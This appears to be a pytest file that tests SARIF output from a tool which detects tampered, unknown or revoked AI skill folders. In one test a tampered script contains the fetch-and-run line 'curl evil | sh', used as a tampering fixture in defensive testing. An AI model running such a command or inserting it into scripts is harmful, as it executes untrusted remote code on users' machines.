"""``check --format sarif``: drift as SARIF 2.1.0 that code scanning can place on the lines it is
about: every changed or added file at that file, relative to the repository root."""

from __future__ import annotations

import json

import pytest
from conftest import SkillWorld

sarif_pydantic = pytest.importorskip("sarif_pydantic", reason="sarif-pydantic is not installed")


@pytest.fixture
def world(tmp_path, monkeypatch):
    w = SkillWorld(tmp_path)
    w.add("pdf-tools", {"scripts/run.sh": ("#!/bin/sh\necho run\n", True), "notes.md": "n\n"})
    w.add("release-notes", {"references/style.md": "Short lines.\n"})
    w.install("pdf-tools", "release-notes")
    monkeypatch.chdir(w.project)
    return w


def sarif(world: SkillWorld, *args: str, code: int):
    result = world.cli("check", ".claude/skills", "--format", "sarif", *args, ok=False)
    assert result.exit_code == code, result.output
    data = json.loads(result.stdout)
    sarif_pydantic.Sarif.model_validate(data)  # a well-formed SARIF 2.1.0 log
    (run,) = data["runs"]
    rules = [r["id"] for r in run["tool"]["driver"]["rules"]]
    for found in run["results"]:
        assert rules[found["ruleIndex"]] == found["ruleId"]
    return run["results"]


def where(found: dict) -> str:
    (location,) = found["locations"]
    artifact = location["physicalLocation"]["artifactLocation"]
    assert artifact["uriBaseId"] == "%SRCROOT%"
    return artifact["uri"]


def test_all_ok_is_a_log_without_results(world):
    assert sarif(world, code=0) == []


def test_each_drifted_file_is_a_result_at_that_file(world):
    folder = world.project / ".claude" / "skills" / "pdf-tools"
    (folder / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (folder / "extra.txt").write_text("planted\n")
    (folder / "notes.md").unlink()
    hand = world.project / ".claude" / "skills" / "hand-made"
    hand.mkdir()
    (hand / "SKILL.md").write_text("---\nname: hand-made\ndescription: mine\n---\nbody\n")
    found = {(r["ruleId"], where(r)): r["message"]["text"] for r in sarif(world, code=1)}
    assert found == {
        (
            "skill-modified",
            ".claude/skills/pdf-tools/scripts/run.sh",
        ): "skill pdf-tools: scripts/run.sh changed since it was approved",
        (
            "skill-modified",
            ".claude/skills/pdf-tools/extra.txt",
        ): "skill pdf-tools: extra.txt added since it was approved",
        (
            "skill-modified",
            ".claude/skills/pdf-tools/SKILL.md",
        ): "skill pdf-tools: notes.md removed since it was approved",
        (
            "skill-unknown",
            ".claude/skills/hand-made/SKILL.md",
        ): "skill hand-made is unknown: not in the store",
    }


def test_a_revoked_skill_is_a_result_at_its_skill_md(world):
    world.cli("trust", "remove", "alice")
    found = sarif(world, code=1)
    assert {(r["ruleId"], where(r)) for r in found} == {
        ("skill-revoked", ".claude/skills/pdf-tools/SKILL.md"),
        ("skill-revoked", ".claude/skills/release-notes/SKILL.md"),
    }


def test_format_json_is_the_json_output_and_an_unknown_format_is_a_usage_error(world):
    assert world.cli("check", ".claude/skills", "--format", "json").stdout == (
        world.cli("check", ".claude/skills", "--json").stdout
    )
    result = world.cli("check", ".claude/skills", "--format", "xml", ok=False)
    assert result.exit_code == 2
